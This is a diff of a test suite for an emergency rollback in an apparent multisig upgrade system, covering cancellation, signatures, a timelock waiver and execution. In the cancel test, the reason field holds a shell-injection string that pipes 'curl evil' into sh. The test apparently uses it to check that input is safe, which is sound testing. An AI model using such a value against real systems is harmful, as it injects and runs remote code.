@@ -41,7 +41,7 @@ describe('an emergency rollback', () => {
 
   it('cancels what is open alone: an executed proposal is not rolled back by cancelling it', async () => {
     const form = { proposal: bad, reason: 'Critical bug in liquidation', ...because('proposal/cancel') };
-    await world.failed('proposal/cancel', 'Cancel a proposal', ['Failed', 'State'], { form, approvers: TWO });
+    await world.failed('proposal/cancel', 'Cancel a proposal', { ended: 'State', form, approvers: TWO });
     const open = await world.proposed();
     const reason = `"; curl evil | sh #'`;
     await world.carriedOut('proposal/cancel', 'Cancel a proposal', {
@@ -79,18 +79,24 @@ describe('an emergency rollback', () => {
       form: { proposal: back },
     });
     for (const member of [1, 2, 3, 4]) await world.plant.sign(member, back);
-    await world.after(30_000, '4 of 5 signatures');
+    await world.after('4 of 5 signatures', { by: 'ana', leapMs: 30_000 });
     await world.plant.sign(5, back);
-    await world.after(30_000, ['Wait for the signatures of all members', 'Done']);
+    await world.after(['Wait for the signatures of all members', 'Done after'], {
+      by: 'ana',
+      leapMs: 30_000,
+    });
 
     world.plant.fault('timelock-waiver');
     const title = 'Execute before the timelock is over';
-    await world.failed('emergency/execute-early', title, ['Failed', 'Waiver of the timelock'], early());
+    await world.failed('emergency/execute-early', title, { ended: 'Waiver of the timelock', ...early() });
     expect(await world.as('ivan').all('announcements-upgrade')).toEqual([]);
     expect(world.proposal().status).toBe('approved');
 
     const members = { approvers: ['dora', 'emil'], form: { proposal: back, ...because('proposal/execute') } };
-    await world.failed('proposal/execute', 'Execute an upgrade', ['Failed', 'end of the timelock'], members);
+    await world.failed('proposal/execute', 'Execute an upgrade', {
+      ended: 'end of the timelock',
+      ...members,
+    });
     await world.app.reload((file) => {
       file.systems.upgrade = {
         ...file.systems.upgrade,
@@ -102,12 +108,12 @@ describe('an emergency rollback', () => {
     await world.as('ivan').sees('Emergency upgrade without the full 48 hours', 'announcements-upgrade');
     expect(await world.plant.executeEarly(back)).toBe(200);
     await world.confirms('emil', title, 'Execute the proposal in the wallet');
-    await world.as('ivan').reads(asked, 'Carried out');
+    await world.comesTo(asked, 'Carried out');
   });
 
   it('ends with the older version, which is what was proposed', async () => {
     expect(versionOf(world.plant.state().program.code)).toBe('1.0.0');
-    await world.ran('program/verify-upgrade', 'Verify the upgraded program', { proposal: back });
+    await world.ran('program/verify-upgrade', 'Verify the upgraded program', { form: { proposal: back } });
     const metrics = await world.ran('metrics/read', 'Metrics of the system');
     expect(metrics.text).toContain('99.7');
   });
@@ -124,7 +130,7 @@ describe('an emergency rollback', () => {
       form: { proposal: id, ...because('proposal/execute') },
     });
     await world.confirms('goran', 'Execute an upgrade', 'Does an explorer, and not the service');
-    await world.as('ivan').reads(executed, 'Carried out');
+    await world.comesTo(executed, 'Carried out');
     expect((await world.app.verify()).findings).toEqual([]);
   });
 });
